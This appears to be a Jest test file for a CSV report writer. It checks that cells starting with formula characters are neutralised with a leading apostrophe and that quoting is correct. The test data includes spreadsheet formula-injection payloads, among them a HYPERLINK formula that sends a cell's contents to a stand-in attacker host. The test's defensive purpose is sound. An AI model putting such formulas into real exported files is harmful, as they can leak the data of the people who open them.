/**
 * CSV cells written into reports: quoting, and the formula-injection guard (OWASP "CSV injection": a cell that
 * starts with = + - @ tab or CR gets a leading apostrophe so a spreadsheet shows it as text).
 */
import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';

import { csvLine, safeCell } from '../../src/report/csv-write.js';
import { normalisePhone } from '../../src/domain/phone.js';

describe('safeCell', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['919810000001', '919810000001'],
    ['=1+2', "'=1+2"],
    ['=HYPERLINK("http://evil.example","x")', `"'=HYPERLINK(""http://evil.example"",""x"")"`],
    ['+919810000001', "'+919810000001"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=cmd', "'\t=cmd"],
    ['\r=cmd', `"'\r=cmd"`],
    ["'=already guarded", "'=already guarded"],
    ['a=b', 'a=b'], // only the first character matters
    ['comma, inside', '"comma, inside"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
  ])('%j → %j', (value, written) => {
    expect(safeCell(value)).toBe(written);
  });
});

describe('csvLine', () => {
  it('ends with CRLF and reads back as the guarded cells', () => {
    const cells = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+91 98100 00001', 'note, with "quotes"\nand a line break', '@x', ''];
    const line = csvLine(cells);
    expect(line.endsWith('\r\n')).toBe(true);
    const [back] = parse(line) as string[][];
    expect(back).toEqual(cells.map((c) => (/^[=+\-@\t\r]/.test(c) ? `'${c}` : c)));
    for (const cell of back ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('a guarded phone number still reads as the same number on re-upload', () => {
    const [back] = parse(csvLine(['+91 98100 00001'])) as string[][];
    expect(normalisePhone(back?.[0] ?? '')).toEqual({ ok: true, digits: '919810000001' });
  });
});
